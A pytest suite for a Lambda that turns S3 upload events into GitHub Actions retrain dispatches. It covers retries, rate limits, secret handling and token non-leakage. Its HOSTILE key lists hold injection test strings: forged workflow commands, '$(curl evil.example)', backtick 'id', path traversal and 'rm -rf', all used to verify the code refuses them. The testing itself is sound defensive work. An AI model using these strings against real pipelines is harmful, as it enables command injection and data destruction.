"""dispatch_lambda against a real moto server (Secrets Manager over HTTP) and the strict fake GitHub API."""

from __future__ import annotations

import json
import logging
import os
import socket
import subprocess
import sys
import traceback
import urllib.error
import urllib.request
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import boto3
import pytest
import yaml

import dispatch_lambda
from tests.conftest import ROOT
from tests.fake_github import Dispatch, FakeGitHub, declared_inputs

RETRAIN_WORKFLOW = ROOT / ".github" / "workflows" / "retrain.yml"
TOKEN = "ghp_" + "T0k3n" * 7
ETAG = "b1946ac92492d2347c6235b4d2611184"


@dataclass
class LambdaContext:
    """The part of Lambda's context object the handler reads."""

    remaining_ms: int

    def get_remaining_time_in_millis(self) -> int:
        return self.remaining_ms


@dataclass
class VirtualTime:
    """Time that passes only when the Lambda sleeps, or when GitHub gets a request (each one `request_s` long)."""

    github: FakeGitHub
    request_s: float = 0.0
    slept: list[float] = field(default_factory=list)

    def clock(self) -> float:
        return sum(self.slept) + len(self.github.requests) * self.request_s

    def sleep(self, seconds: float) -> None:
        self.slept.append(seconds)


@pytest.fixture
def time_(github: FakeGitHub, monkeypatch: pytest.MonkeyPatch) -> VirtualTime:
    virtual = VirtualTime(github)
    monkeypatch.setattr(dispatch_lambda, "clock", virtual.clock)
    monkeypatch.setattr(dispatch_lambda, "sleep", virtual.sleep)
    return virtual


@pytest.fixture
def secrets(moto_endpoint: str, monkeypatch: pytest.MonkeyPatch) -> Any:  # a botocore Secrets Manager client
    for name, value in {
        "AWS_ENDPOINT_URL": moto_endpoint,
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_SESSION_TOKEN": "testing",
        "AWS_DEFAULT_REGION": "us-east-1",
    }.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(dispatch_lambda, "_tokens", {})
    return boto3.client("secretsmanager")


def create_secret(secrets: Any, value: str) -> str:
    return secrets.create_secret(Name=f"github-pat-{uuid.uuid4().hex}", SecretString=value)["ARN"]


@pytest.fixture
def github(secrets: Any, monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeGitHub]:
    with FakeGitHub(token=TOKEN, workflow_file=RETRAIN_WORKFLOW) as fake:
        configure(monkeypatch, fake, create_secret(secrets, TOKEN))
        yield fake


def configure(monkeypatch: pytest.MonkeyPatch, fake: FakeGitHub, secret_arn: str) -> None:
    for name, value in {
        "GITHUB_OWNER": "acme",
        "GITHUB_REPO": "housing-mlops",
        "GITHUB_WORKFLOW": fake.workflow_file.name,
        "GITHUB_PAT_SECRET_ARN": secret_arn,
        "GITHUB_API_URL": fake.url,
        "GITHUB_BACKOFF_S": "0",
    }.items():
        monkeypatch.setenv(name, value)


def s3_notification(*objects: tuple[str, str, str], event_name: str = "ObjectCreated:Put") -> dict:
    return {
        "Records": [
            {
                "eventVersion": "2.1",
                "eventSource": "aws:s3",
                "eventName": event_name,
                "s3": {"bucket": {"name": bucket}, "object": {"key": key, "eTag": etag, "size": 1024}},
            }
            for bucket, key, etag in objects
        ]
    }


def eventbridge_event(obj: tuple[str, str, str]) -> dict:
    bucket, key, etag = obj
    return {
        "version": "0",
        "detail-type": "Object Created",
        "source": "aws.s3",
        "region": "us-east-1",
        "detail": {"bucket": {"name": bucket}, "object": {"key": key, "etag": etag, "size": 5}, "reason": "PutObject"},
    }


def inputs(bucket: str, key: str, etag: str = ETAG, version_id: str = "") -> dict[str, str]:
    return {"s3_bucket": bucket, "s3_key": key, "s3_etag": etag, "s3_version_id": version_id}


def object_of(dispatch: Dispatch) -> tuple[str, str, str]:
    return dispatch.inputs["s3_bucket"], dispatch.inputs["s3_key"], dispatch.inputs["s3_etag"]


@pytest.mark.parametrize("make_event", [s3_notification, eventbridge_event])
def test_the_object_version_of_a_versioned_bucket_is_dispatched(
    github: FakeGitHub, make_event: Callable[..., dict]
) -> None:
    event = make_event(("landing", "data/housing.csv", ETAG))
    for obj in [record["s3"]["object"] for record in event.get("Records", [])] or [event["detail"]["object"]]:
        obj["versionId" if "eTag" in obj else "version-id"] = "3HL4kqtJvjVBH40Nrjfkd"

    assert dispatch_lambda.handler(event, None) == 1

    assert github.dispatches[0].inputs == inputs("landing", "data/housing.csv", version_id="3HL4kqtJvjVBH40Nrjfkd")


def test_a_hostile_version_id_is_refused_before_github_is_asked(github: FakeGitHub) -> None:
    event = s3_notification(("landing", "data/housing.csv", ETAG))
    event["Records"][0]["s3"]["object"]["versionId"] = "v1\n::set-output name=x::y"

    dispatch_lambda.handler(event, None)

    assert github.dispatches == []


def test_s3_notification_dispatches_the_workflow(github: FakeGitHub) -> None:
    assert dispatch_lambda.handler(s3_notification(("landing", "data/housing.csv", ETAG)), None) == 1

    [dispatch] = github.dispatches
    assert dispatch.workflow_id == "retrain.yml"
    assert dispatch.ref == "main"
    assert dispatch.inputs == inputs("landing", "data/housing.csv")
    assert dispatch.headers["authorization"] == f"Bearer {TOKEN}"
    assert dispatch.headers["accept"] == "application/vnd.github+json"
    assert dispatch.headers["x-github-api-version"] == "2022-11-28"
    assert dispatch.headers["content-type"] == "application/json"
    assert dispatch.headers["user-agent"] == dispatch_lambda.USER_AGENT
    assert [request.path for request in github.requests] == [
        "/repos/acme/housing-mlops/actions/workflows/retrain.yml/dispatches"
    ]


def test_eventbridge_object_created_dispatches(github: FakeGitHub, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_REF", "release")
    github.branches = ("main", "release")

    assert dispatch_lambda.handler(eventbridge_event(("landing", "housing.csv", ETAG)), None) == 1

    assert [(d.ref, d.inputs) for d in github.dispatches] == [("release", inputs("landing", "housing.csv"))]


@pytest.mark.parametrize("make_event", [s3_notification, eventbridge_event])
def test_url_encoded_keys_are_decoded(
    github: FakeGitHub, monkeypatch: pytest.MonkeyPatch, make_event: Callable[..., dict]
) -> None:
    monkeypatch.setenv("S3_KEY_PREFIX", "data/")
    monkeypatch.setenv("S3_KEY_SUFFIX", ").csv")
    event = make_event(("landing", "data/new+housing%281%29.csv", ETAG))

    assert dispatch_lambda.handler(event, None) == 1

    assert github.dispatches[0].inputs["s3_key"] == "data/new housing(1).csv"


@pytest.mark.parametrize(
    "event",
    [
        s3_notification(("landing", "dvc/files/md5/ab/cdef0123456789", ETAG)),
        s3_notification(("landing", "data/housing.csv.dvc", ETAG)),
        s3_notification(("landing", "data/housing.csv", ETAG), event_name="ObjectRemoved:Delete"),
        {"source": "aws.events", "detail-type": "Scheduled Event", "detail": {}},
        {"Service": "Amazon S3", "Event": "s3:TestEvent", "Bucket": "landing"},
    ],
    ids=["dvc-object", "other-suffix", "object-removed", "scheduled", "s3-test-event"],
)
def test_other_objects_and_events_are_ignored(
    github: FakeGitHub, event: dict, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger="dispatch_lambda")

    assert dispatch_lambda.handler(event, None) == 0

    assert github.requests == []
    assert len(caplog.records) == 1
    assert caplog.records[0].getMessage().startswith("Ignoring")


def sqs_batch(*bodies: object) -> dict:
    return {
        "Records": [
            {
                "messageId": f"m{n}",
                "eventSource": "aws:sqs",
                "body": body if isinstance(body, str) else json.dumps(body),
            }
            for n, body in enumerate(bodies, 1)
        ]
    }


def test_malformed_sqs_messages_are_logged_and_skipped_and_the_rest_dispatched(
    github: FakeGitHub, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger="dispatch_lambda")
    good = ("landing", "data/housing.csv", ETAG)
    event = sqs_batch(
        "not json",
        [1, 2],  # JSON, but not an object
        "null",
        {"Records": "nope"},
        {"Records": ["a string", {"eventName": "ObjectCreated:Put", "s3": {"bucket": {"name": "landing"}}}]},
        {"source": "aws.s3", "detail-type": "Object Created", "detail": {"bucket": {}}},
        {"source": "aws.events", "detail-type": "Scheduled Event"},
        s3_notification(good),
    )

    assert dispatch_lambda.handler(event, None) == {"batchItemFailures": []}  # retrying malformed ones cannot help

    assert [object_of(d) for d in github.dispatches] == [good]
    skipped = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert skipped == [
        "Skipping SQS message 'm1': its body is not JSON",
        "Skipping SQS message 'm2': its body is JSON but not an object",
        "Skipping SQS message 'm3': its body is JSON but not an object",
        "Skipping SQS message 'm4': Records is not a list",
        "Skipping record 0 of SQS message 'm5': the record is not an object",
        "Skipping record 1 of SQS message 'm5': an ObjectCreated record without s3.bucket.name and s3.object.key",
        "Skipping SQS message 'm6': an Object Created event without detail.bucket.name and detail.object.key",
    ]


@pytest.mark.parametrize("event", [[], "data/housing.csv", None, 42])
def test_an_event_that_is_not_an_object_is_ignored(github: FakeGitHub, event: Any) -> None:
    assert dispatch_lambda.handler(event, None) == 0
    assert github.requests == []


def test_malformed_record_of_an_s3_notification_does_not_stop_the_others(github: FakeGitHub) -> None:
    event = s3_notification(("landing", "data/housing.csv", ETAG))
    event["Records"].insert(0, {"eventName": "ObjectCreated:Put", "s3": {"object": {"key": "data/housing.csv"}}})

    assert dispatch_lambda.handler(event, None) == 1
    assert len(github.dispatches) == 1


HOSTILE = {
    "newline and workflow command": "data/x\n::set-output name=s3_key::evil/housing.csv",
    "url-encoded newline": "data/x%0A%3A%3Awarning%3A%3Aforged/housing.csv",
    "workflow command": "data/::add-mask::x/housing.csv",
    "command substitution": "data/$(curl evil.example)/housing.csv",
    "backticks": "data/`id`housing.csv",
    "parent directory": "data/../secrets/housing.csv",
    "absolute path": "/data/housing.csv",
    "carriage return": "data/a\rhousing.csv",
    "quote": "data/a'housing.csv",
    "semicolon": "data/a;rm -rf x;housing.csv",
}


@pytest.mark.parametrize("key", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_keys_are_refused_before_github_and_logged_escaped(
    github: FakeGitHub, caplog: pytest.LogCaptureFixture, key: str
) -> None:
    caplog.set_level(logging.DEBUG, logger="dispatch_lambda")
    event = s3_notification(("landing", key, ETAG), ("landing", "data/housing.csv", ETAG))

    assert dispatch_lambda.handler(event, None) == 1

    assert [d.inputs["s3_key"] for d in github.dispatches] == ["data/housing.csv"]
    [refusal] = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert "is outside the allowed pattern" in refusal
    assert "\n" not in refusal and "\r" not in refusal  # repr() escaped them: no forged log line, no `::` at a start
    assert not any(line.lstrip().startswith("::") for line in caplog.text.splitlines())


@pytest.mark.parametrize(
    ("bucket", "etag", "reason"),
    [
        ("landing\n::error::x", ETAG, "is not a valid S3 bucket name"),
        ("Landing_Bucket", ETAG, "is not a valid S3 bucket name"),
        ("landing", "$(id)", "is not an S3 ETag"),
        ("landing", ETAG + "\n::set-output name=x::y", "is not an S3 ETag"),
    ],
)
def test_hostile_buckets_and_etags_are_refused(
    github: FakeGitHub, caplog: pytest.LogCaptureFixture, bucket: str, etag: str, reason: str
) -> None:
    caplog.set_level(logging.INFO, logger="dispatch_lambda")

    assert dispatch_lambda.handler(eventbridge_event((bucket, "data/housing.csv", etag)), None) == 0

    assert github.requests == []
    assert reason in caplog.text and "\n" not in caplog.records[0].getMessage()


def test_multipart_etags_and_quoted_etags_are_accepted(github: FakeGitHub) -> None:
    event = s3_notification(("landing", "data/a/housing.csv", f"{ETAG}-12"), ("landing", "housing.csv", f'"{ETAG}"'))

    assert dispatch_lambda.handler(event, None) == 2

    assert [d.inputs["s3_etag"] for d in github.dispatches] == [f"{ETAG}-12", ETAG]


def test_prefix_filter(github: FakeGitHub, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("S3_KEY_PREFIX", "incoming/")
    event = s3_notification(("landing", "archive/housing.csv", ETAG), ("landing", "incoming/housing.csv", ETAG))

    assert dispatch_lambda.handler(event, None) == 1

    assert [d.inputs["s3_key"] for d in github.dispatches] == ["incoming/housing.csv"]


def test_batch_dispatches_once_per_distinct_object_version(github: FakeGitHub) -> None:
    etag_1, etag_2 = ETAG, ETAG.replace("b", "c")
    first, second = ("landing", "data/housing.csv", etag_1), ("landing", "data/housing.csv", etag_2)
    other_bucket = ("staging", "data/housing.csv", etag_1)
    direct = s3_notification(first, second, first, other_bucket)
    via_sqs = {
        "Records": [
            {"messageId": "m1", "eventSource": "aws:sqs", "body": json.dumps(s3_notification(second))},
            {"messageId": "m2", "eventSource": "aws:sqs", "body": json.dumps(eventbridge_event(first))},
        ]
    }

    assert dispatch_lambda.handler(direct, None) == 3
    assert dispatch_lambda.handler(via_sqs, None) == {"batchItemFailures": []}

    assert [object_of(d) for d in github.dispatches] == [first, second, other_bucket, second, first]


def test_token_is_read_once_and_never_logged(
    github: FakeGitHub, secrets: Any, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="dispatch_lambda")
    event = s3_notification(("landing", "data/housing.csv", ETAG))
    assert dispatch_lambda.handler(event, None) == 1
    secrets.put_secret_value(SecretId=os.environ["GITHUB_PAT_SECRET_ARN"], SecretString="ghp_rotated")

    assert dispatch_lambda.handler(event, None) == 1  # the fake refuses any other token: the cached one was used

    assert [d.headers["authorization"] for d in github.dispatches] == [f"Bearer {TOKEN}"] * 2
    assert caplog.records
    assert TOKEN not in caplog.text


def test_json_secret(github: FakeGitHub, secrets: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_PAT_SECRET_ARN", create_secret(secrets, json.dumps({"token": TOKEN})))

    assert dispatch_lambda.handler(s3_notification(("landing", "housing.csv", ETAG)), None) == 1

    assert github.dispatches[0].headers["authorization"] == f"Bearer {TOKEN}"


def test_bad_gateway_is_retried(github: FakeGitHub) -> None:
    github.fail_next(1, 502)

    assert dispatch_lambda.handler(s3_notification(("landing", "housing.csv", ETAG)), None) == 1

    assert len(github.requests) == 2
    assert len(github.dispatches) == 1


def test_retry_after_is_honoured(github: FakeGitHub, time_: VirtualTime) -> None:
    github.fail_next(2, 429, retry_after=7)

    assert dispatch_lambda.handler(s3_notification(("landing", "housing.csv", ETAG)), LambdaContext(60_000)) == 1

    assert time_.slept == [7, 7]
    assert len(github.dispatches) == 1


def test_rate_limit_reset_time_is_honoured(
    github: FakeGitHub, time_: VirtualTime, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(dispatch_lambda, "wall_clock", lambda: 1_800_000_000.0)
    github.fail_next(1, 403, headers={"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": "1800000020"})

    assert dispatch_lambda.handler(s3_notification(("landing", "housing.csv", ETAG)), LambdaContext(60_000)) == 1

    assert time_.slept == [20.0]
    assert len(github.dispatches) == 1


@pytest.mark.parametrize(
    "headers",
    [{"Retry-After": "120"}, {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": "1800003600"}],
    ids=["retry-after", "ratelimit-reset"],
)
def test_rate_limit_longer_than_the_budget_fails_at_once_with_the_reason(
    github: FakeGitHub, time_: VirtualTime, monkeypatch: pytest.MonkeyPatch, headers: dict[str, str]
) -> None:
    monkeypatch.setattr(dispatch_lambda, "wall_clock", lambda: 1_800_000_000.0)
    github.fail_next(1, 403, headers=headers)

    fits = r"rate limit asks to wait: waiting \d+s, then up to 10s for another attempt, does not fit the 57s left"
    with pytest.raises(dispatch_lambda.DispatchError, match=fits):
        dispatch_lambda.handler(s3_notification(("landing", "housing.csv", ETAG)), LambdaContext(60_000))

    assert time_.slept == [] and len(github.requests) == 1


def test_forbidden_without_rate_limit_headers_fails_at_once(github: FakeGitHub, time_: VirtualTime) -> None:
    github.fail_next(1, 403)

    with pytest.raises(dispatch_lambda.DispatchError, match="403: Forbidden"):
        dispatch_lambda.handler(s3_notification(("landing", "housing.csv", ETAG)), LambdaContext(60_000))

    assert len(github.requests) == 1


def test_backoff_grows_exponentially(github: FakeGitHub, time_: VirtualTime, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_BACKOFF_S", "0.5")
    github.fail_next(3, 503)

    assert dispatch_lambda.handler(s3_notification(("landing", "housing.csv", ETAG)), LambdaContext(60_000)) == 1

    assert time_.slept == [0.5, 1.0, 2.0]
    assert len(github.dispatches) == 1


def infra_function() -> tuple[int, dict[str, str]]:
    """The dispatch function's timeout and environment as infra/housing-mlops.yml declares them."""
    from cfnlint.decode import cfn_yaml

    template = cfn_yaml.loads((ROOT / "infra" / "housing-mlops.yml").read_text())
    properties = template["Resources"]["DispatchFunction"]["Properties"]
    return properties["Timeout"], {k: str(v) for k, v in properties["Environment"]["Variables"].items()}


def test_worst_case_retry_time_of_the_declared_settings_fits_the_declared_timeout(
    github: FakeGitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    timeout, environment = infra_function()
    for name in ("GITHUB_TIMEOUT_S", "GITHUB_ATTEMPTS", "GITHUB_BACKOFF_S", "BUDGET_MARGIN_S"):
        monkeypatch.setenv(name, environment[name])
    config = dispatch_lambda.Config.from_env()

    assert config.worst_case_s() + config.margin_s < timeout


def test_persistent_errors_stop_within_the_functions_timeout(
    github: FakeGitHub, time_: VirtualTime, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every request takes its whole timeout; three objects share the budget; all of it ends before the timeout."""
    timeout, environment = infra_function()
    for name in ("GITHUB_TIMEOUT_S", "GITHUB_ATTEMPTS", "GITHUB_BACKOFF_S", "BUDGET_MARGIN_S"):
        monkeypatch.setenv(name, environment[name])
    time_.request_s = float(environment["GITHUB_TIMEOUT_S"])
    github.fail_next(100, 503)
    event = s3_notification(*[("landing", f"data/{n}/housing.csv", ETAG) for n in range(3)])

    with pytest.raises(dispatch_lambda.DispatchError) as raised:
        dispatch_lambda.handler(event, LambdaContext(timeout * 1000))

    assert time_.clock() <= timeout - float(environment["BUDGET_MARGIN_S"])
    assert str(raised.value).startswith("3 of 3 objects not dispatched: ")
    assert "503: Service Unavailable (after 4 attempts)" in str(raised.value)
    assert "s3://landing/data/2/housing.csv (etag " in str(raised.value)
    assert "backoff: waiting 2s, then up to 8s for another attempt, does not fit the 1s left" in str(raised.value)
    assert "the function's time budget is spent (0 attempts made)" in str(raised.value)


def test_sqs_batch_reports_only_the_messages_that_failed(github: FakeGitHub, time_: VirtualTime) -> None:
    github.fail_next(1, 403)  # the first message's dispatch is refused
    first, second = ("landing", "data/1/housing.csv", ETAG), ("landing", "data/2/housing.csv", ETAG)
    event = sqs_batch(s3_notification(first), eventbridge_event(second), "garbage")

    result = dispatch_lambda.handler(event, LambdaContext(60_000))

    assert result == {"batchItemFailures": [{"itemIdentifier": "m1"}]}  # SQS redelivers m1 only, then its DLQ
    assert [object_of(d) for d in github.dispatches] == [second]


def test_read_timeout_after_github_accepted_is_not_sent_again(
    github: FakeGitHub, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setenv("GITHUB_TIMEOUT_S", "0.3")
    github.stall_next(1)

    with pytest.raises(dispatch_lambda.DispatchError, match="GitHub may have started the run, so it is not sent again"):
        dispatch_lambda.handler(s3_notification(("landing", "housing.csv", ETAG)), LambdaContext(60_000))

    assert len(github.requests) == 1 and len(github.dispatches) == 1  # one run, not two
    assert "check the workflow's runs before redriving this event" in caplog.text


def test_rotated_token_is_read_again_once_after_a_401(
    github: FakeGitHub, secrets: Any, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    event = s3_notification(("landing", "housing.csv", ETAG))
    assert dispatch_lambda.handler(event, None) == 1  # the token is cached now
    rotated = "ghp_" + "r0tat" * 7
    secrets.put_secret_value(SecretId=os.environ["GITHUB_PAT_SECRET_ARN"], SecretString=rotated)
    github.token = rotated

    assert dispatch_lambda.handler(event, None) == 1

    assert [r.headers["authorization"] for r in github.requests] == [f"Bearer {t}" for t in (TOKEN, TOKEN, rotated)]
    assert "read the token again from Secrets Manager" in caplog.text
    assert rotated not in caplog.text


def test_a_second_401_after_reading_the_secret_again_fails(
    github: FakeGitHub, secrets: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    event = s3_notification(("landing", "housing.csv", ETAG))
    assert dispatch_lambda.handler(event, None) == 1
    secrets.put_secret_value(SecretId=os.environ["GITHUB_PAT_SECRET_ARN"], SecretString="ghp_" + "n3w" * 9)
    github.token = "ghp_" + "0ther" * 7  # revoked: neither the cached nor the new token works

    with pytest.raises(dispatch_lambda.DispatchError, match="401: Bad credentials"):
        dispatch_lambda.handler(event, None)

    assert len(github.requests) == 3  # the first run's, then one with each token


def test_persistent_server_error_raises_after_all_attempts(
    github: FakeGitHub, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="dispatch_lambda")
    github.fail_next(10, 500)

    with pytest.raises(dispatch_lambda.DispatchError, match="500: Internal Server Error") as raised:
        dispatch_lambda.handler(s3_notification(("landing", "housing.csv", ETAG)), None)

    assert len(github.requests) == 4
    assert github.dispatches == []
    assert [r.levelname for r in caplog.records if r.name == "dispatch_lambda"] == ["WARNING"] * 3 + ["ERROR"]
    assert_not_leaked(TOKEN, raised.value, caplog)


def test_undeclared_inputs_fail_at_once_with_githubs_message(
    secrets: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    workflow = tmp_path / "retrain.yml"
    workflow.write_text("on:\n  workflow_dispatch:\n  push:\njobs: {}\n")
    with FakeGitHub(token=TOKEN, workflow_file=workflow) as fake:
        configure(monkeypatch, fake, create_secret(secrets, TOKEN))

        with pytest.raises(dispatch_lambda.DispatchError) as raised:
            dispatch_lambda.handler(s3_notification(("landing", "housing.csv", ETAG)), None)

    assert 'Unexpected inputs provided: ["s3_bucket", "s3_etag", "s3_key", "s3_version_id"]' in str(raised.value)
    assert "422" in str(raised.value)
    assert len(fake.requests) == 1


def test_wrong_token_fails_at_once(
    github: FakeGitHub, secrets: Any, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="dispatch_lambda")
    wrong = "ghp_" + "wr0ng" * 7
    monkeypatch.setenv("GITHUB_PAT_SECRET_ARN", create_secret(secrets, json.dumps({"token": wrong})))

    with pytest.raises(dispatch_lambda.DispatchError, match="401: Bad credentials") as raised:
        dispatch_lambda.handler(s3_notification(("landing", "housing.csv", ETAG)), None)

    assert len(github.requests) == 1
    assert_not_leaked(wrong, raised.value, caplog)


def test_unreachable_github_raises_after_all_attempts(github: FakeGitHub, monkeypatch: pytest.MonkeyPatch) -> None:
    with socket.socket() as probe:  # a port nothing listens on once the socket is closed
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    monkeypatch.setenv("GITHUB_API_URL", f"http://127.0.0.1:{port}")
    monkeypatch.setenv("GITHUB_ATTEMPTS", "2")

    with pytest.raises(dispatch_lambda.DispatchError, match="after 2 attempts"):
        dispatch_lambda.handler(s3_notification(("landing", "housing.csv", ETAG)), None)


def test_lambda_sends_exactly_the_inputs_retrain_yml_declares(github: FakeGitHub) -> None:
    declared = declared_inputs(RETRAIN_WORKFLOW)

    dispatch_lambda.handler(s3_notification(("landing", "housing.csv", ETAG)), None)

    assert set(github.dispatches[0].inputs) == set(declared)
    assert {name for name, spec in declared.items() if spec.get("required")} == {"s3_bucket", "s3_key"}


def assert_not_leaked(token: str, error: BaseException, caplog: pytest.LogCaptureFixture) -> None:
    assert token not in "".join(traceback.format_exception(error))
    assert token not in caplog.text


@pytest.mark.parametrize(
    ("change", "status", "message"),
    [
        ({"headers": {"Authorization": None}}, 401, "Requires authentication"),
        ({"headers": {"Accept": "text/html"}}, 415, "Unsupported 'Accept' header"),
        ({"path": "/repos/acme/housing-mlops/actions/workflows/deploy.yml/dispatches"}, 404, "Not Found"),
        ({"body": {"inputs": inputs("landing", "housing.csv")}}, 422, '"ref" wasn\'t supplied'),
        ({"body": {"ref": "nope", "inputs": inputs("landing", "housing.csv")}}, 422, "No ref found for: nope"),
        ({"body": {"ref": "main", "inputs": {"s3_key": "housing.csv"}}}, 422, "Required input 's3_bucket'"),
        ({"body": {"ref": "main", "inputs": {"s3_bucket": "b", "s3_key": 1}}}, 422, "is not a string"),
    ],
)
def test_fake_github_refuses_what_github_refuses(change: dict, status: int, message: str) -> None:
    headers = {"Accept": "application/vnd.github+json", "Authorization": f"Bearer {TOKEN}", **change.get("headers", {})}
    body = change.get("body", {"ref": "main", "inputs": inputs("landing", "housing.csv")})
    with FakeGitHub(token=TOKEN, workflow_file=RETRAIN_WORKFLOW) as fake:
        path = change.get("path", "/repos/acme/housing-mlops/actions/workflows/161335/dispatches")
        request = urllib.request.Request(
            fake.url + path,
            data=json.dumps(body).encode(),
            headers={name: value for name, value in headers.items() if value is not None},
            method="POST",
        )
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=5)

    assert refused.value.code == status
    assert message in json.load(refused.value)["message"]
    assert fake.dispatches == []


def test_fake_github_runs_on_dispatch_after_answering(secrets: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[dict[str, str]] = []

    def runner(dispatch: Dispatch) -> None:
        seen.append(dict(dispatch.inputs))
        raise RuntimeError("make retrain failed")

    with FakeGitHub(token=TOKEN, workflow_file=RETRAIN_WORKFLOW, on_dispatch=runner) as fake:
        configure(monkeypatch, fake, create_secret(secrets, TOKEN))
        assert dispatch_lambda.handler(s3_notification(("landing", "housing.csv", ETAG)), None) == 1

    assert seen == [inputs("landing", "housing.csv")]  # leaving the block waited for the callback
    assert [str(error) for error in fake.callback_errors] == ["make retrain failed"]


# --- the retrain workflow's side: names that reach it by hand or by repository_dispatch -----------------------------

WORKFLOW_HOSTILE = {
    **HOSTILE,
    "set-output on its own line": "data/x\n::set-output name=promote::true\nhousing.csv",
    "stop-commands": "data/x\n::stop-commands::token\nhousing.csv",
}


def run_check(bucket: str, key: str, etag: str = ETAG) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, str(ROOT / "scripts" / "check_s3_object.py")],
        env={"PATH": os.environ["PATH"], "S3_BUCKET": bucket, "S3_KEY": key, "S3_ETAG": etag},
        capture_output=True,
        text=True,
        timeout=30,
    )


@pytest.mark.integration  # runs the script
@pytest.mark.parametrize("key", WORKFLOW_HOSTILE.values(), ids=WORKFLOW_HOSTILE.keys())
def test_workflow_check_refuses_hostile_keys_with_one_escaped_error_line(key: str, tmp_path: Path) -> None:
    result = run_check("landing", key.replace("$(curl evil.example)", f"$(touch {tmp_path}/pwned)"))

    assert result.returncode == 1
    [line] = result.stdout.splitlines()  # one line: a newline in the key cannot start a command of its own
    assert line.startswith("::error::retrain refused: key ") and "is outside the allowed pattern" in line
    assert not (tmp_path / "pwned").exists()


@pytest.mark.integration  # runs the script
def test_workflow_check_accepts_what_the_lambda_dispatches(github: FakeGitHub) -> None:
    event = s3_notification(("landing", "data/2026%2B11/new+housing.csv", ETAG))  # "+" encoded, " " as "+"
    assert dispatch_lambda.handler(event, None) == 1
    inputs = github.dispatches[0].inputs

    result = run_check(inputs["s3_bucket"], inputs["s3_key"], inputs["s3_etag"])

    assert result.returncode == 0, result.stdout
    # the key is decoded once, by the Lambda
    assert result.stdout == f"retrain: s3://landing/data/2026+11/new housing.csv (etag {ETAG}, version -)\n"


def workflow_step(name: str) -> str:
    workflow = yaml.safe_load(RETRAIN_WORKFLOW.read_text())
    [step] = [s for job in workflow["jobs"].values() for s in job["steps"] if s.get("name") == name]
    return step["run"]


@pytest.mark.integration  # runs the steps in bash
@pytest.mark.parametrize("key", WORKFLOW_HOSTILE.values(), ids=WORKFLOW_HOSTILE.keys())
@pytest.mark.parametrize("step", ["Check the trigger and the settings", "Failure summary"])
def test_retrain_steps_that_see_the_key_neither_run_it_nor_echo_it_as_a_command(
    step: str, key: str, tmp_path: Path
) -> None:
    """The steps run as GitHub runs them (bash -e, names only in the environment): `$(…)` stays text, and no
    line they print starts a workflow command they did not write themselves."""
    summary = tmp_path / "summary.md"
    key = key.replace("$(curl evil.example)", f"$(touch {tmp_path}/pwned)")
    env = {
        "PATH": os.environ["PATH"],
        "S3_BUCKET": "landing",
        "S3_KEY": key,
        "S3_DVC_BUCKET": "dvc",
        "MLFLOW_TRACKING_URI": "http://mlflow.internal:5000",
        "GITHUB_STEP_SUMMARY": str(summary),
    }
    script = workflow_step(step)
    result = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
        env=env,
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=30,
    )

    assert result.returncode == 0, result.stderr
    assert [line for line in result.stdout.splitlines() if line.startswith("::")] == []
    assert not (tmp_path / "pwned").exists()
    if summary.exists():  # Markdown for the run's page, not a command channel; the key is there as text
        assert key in summary.read_bytes().decode()
